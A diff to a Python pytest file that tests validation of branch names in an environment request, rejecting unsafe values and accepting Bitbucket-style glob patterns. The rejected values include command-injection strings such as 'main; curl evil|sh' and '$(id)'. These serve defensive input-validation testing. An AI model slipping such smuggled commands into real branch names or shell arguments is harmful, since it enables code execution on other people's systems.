@@ -175,11 +175,20 @@ def test_E8_control_characters_are_refused_everywhere(character: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "branch", ["main; curl evil|sh", "$(id)", "`id`", "a b", "a..b", "-x", "a'b", "a\\b", "a{b", "x.lock"]
+    "branch",
+    [
+        *("main; curl evil|sh", "$(id)", "`id`", "a b", "a..b", "-x", "a'b", "a\\b", "x.lock"),
+        *("a{b", "a}b", "a,b", "{a,{b,c}}", "{}", "{a,}", "@{b,c}"),
+    ],
 )
 def test_E9_a_branch_is_a_name_or_a_glob(branch: str) -> None:
     with pytest.raises(InvalidValue, match="branch"):
         EnvironmentRequest(branch=branch)
+
+
+@pytest.mark.parametrize("branch", ["main", "{main,master}", "release/{1,2}.*", "feature/?", "**", "hotfix-{a,b}/x"])
+def test_E9_what_bitbucket_takes_for_a_pattern_is_one_here(branch: str) -> None:
+    assert EnvironmentRequest(branch=branch).branch == branch
 
 
 def test_E9_what_a_repository_states_reaches_a_shell_as_quoted_words() -> None:
